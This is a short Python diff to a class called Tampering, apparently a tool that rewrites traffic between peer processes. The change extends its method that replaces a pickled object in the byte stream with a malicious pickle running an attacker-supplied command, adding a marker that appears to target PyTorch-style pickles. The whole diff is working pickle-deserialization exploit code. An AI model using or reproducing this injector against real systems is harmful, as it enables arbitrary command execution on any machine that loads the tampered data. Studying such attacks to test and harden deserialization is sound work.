@@ -61,6 +61,7 @@ CHANNEL_AT = slice(77, 85)  # in the answer
 ENCRYPTS = 4  # bit of the settings in a greeting
 REFUSAL = b"cydis"
 PICKLE = b"\x01\x80\x05"  # how a pickled object begins: the codec's mark, pickle's own
+TORCHS_PICKLE = b"\x80\x04\x95"
 RECORD_TAG = OVERHEAD_BYTES - HEAD_BYTES
 RANK_ADDRESS = re.compile(rb"^(\d+\n[^\n]+\n127\.0\.0\.1 )(\d+)$")
 
@@ -192,11 +193,12 @@ class Tampering:
 
     def _pickle(self, whole: bytes) -> bytes | None:
         """Put a pickle that runs a command in the place of a pickled object."""
-        at = whole.find(PICKLE, HEADER.size)
-        if self._channel != "peer" or at < 0:
+        mark = TORCHS_PICKLE if self._attack.get("torchs") else PICKLE
+        at = whole.find(mark, HEADER.size) + mark.index(b"\x80")
+        if self._channel != "peer" or at < HEADER.size:
             return None
         evil = pickle.dumps(Command(self._attack["command"]), protocol=5)
-        return put_in(whole, at + 1, evil) if at + 1 + len(evil) <= len(whole) else None
+        return put_in(whole, at, evil) if at + len(evil) <= len(whole) else None
 
     def _plain(self, whole: bytes) -> bytes | None:
         """Change a value of an object of plain values: the text in it."""
